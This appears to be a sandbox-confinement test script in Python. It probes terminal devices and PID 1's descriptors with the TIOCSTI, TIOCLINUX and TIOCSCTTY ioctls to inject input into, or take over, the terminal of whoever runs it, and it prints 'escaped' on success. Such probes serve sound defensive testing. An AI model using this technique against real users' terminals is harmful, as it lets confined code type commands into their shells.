# attacks: those who run it, by typing into their terminal
# confined: passed, at most 1
import fcntl, os, termios
for path in ("/dev/tty", "/dev/console", "/dev/stdin", "/dev/stderr", "/proc/1/fd/0", "/proc/1/fd/2"):
    try: fd = os.open(path, os.O_RDWR | os.O_NONBLOCK)
    except OSError: continue
    for request, argument in ((0x5412, b"x"), (0x541C, b"\x02\0\0\0"), (0x540E, 1)):
        try:
            fcntl.ioctl(fd, request, argument)
            print("escaped", path)
        except OSError: pass
